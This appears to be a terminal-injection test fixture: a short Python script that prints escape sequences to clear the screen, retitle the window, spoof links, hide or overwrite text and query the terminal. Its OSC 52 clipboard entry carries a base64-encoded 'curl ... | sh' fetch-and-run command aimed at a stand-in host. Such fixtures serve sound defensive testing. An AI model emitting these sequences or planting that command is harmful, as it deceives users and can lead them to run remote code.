# /// attack
# title = "Clears the terminal, sets its title, its clipboard and links, hides text, moves the cursor, rings"
# ///

# %%
print("TRIED to steer the terminal")
CODES = (
    "\x1b[2J\x1b[H\x1b[3J",  # clears, and what was above
    "\x1b]0;owned\x07\x1b]2;owned\x1b\\",  # title
    "\x1b]52;c;Y3VybCBodHRwOi8vY2FuYXJ5LmludmFsaWQgfCBzaA==\x07",  # clipboard
    "\x1b]8;;http://canary.invalid/\x1b\\click\x1b]8;;\x1b\\",  # link
    "\x1b[8mhidden\x1b[28m\x1b[30;40mblack on black",
    "wrong\x1b[1A\x1b[2Kright\x1b[10;10H\x1b7\x1b8\x1bM\x1bc",  # goes back over what stands there
    "\x1bP+q544e\x1b\\\x1b_payload\x1b\\\x1b^private\x1b\\\x1bXstring\x1b\\",  # questions and strings
    "\x1b[6n\x1b[c\x1b[21t\x1b]10;?\x07\x05",  # asks the terminal, whose answer is typed
    "\x9b2J\x9d0;owned\x9c\x90q\x9c\x84\x85\x8d",  # the same in 8 bits
    "\x1b[?1049h\x1b[?1000h\x1b[?25l\x1b[4h\x1b(0\x0e\x0f",  # other screen, mouse, no cursor, other letters
    "wrong\b\b\b\b\bright\rover\x00\x07\x0b\x0c\x7f\x1a\x18\x1b",
)
for code in CODES:
    print(code)


# %%
def rank_of(value):
    raise ValueError("".join(CODES))


def kind_of(value):
    return "".join(CODES)


# %%
raise RuntimeError("".join(CODES))
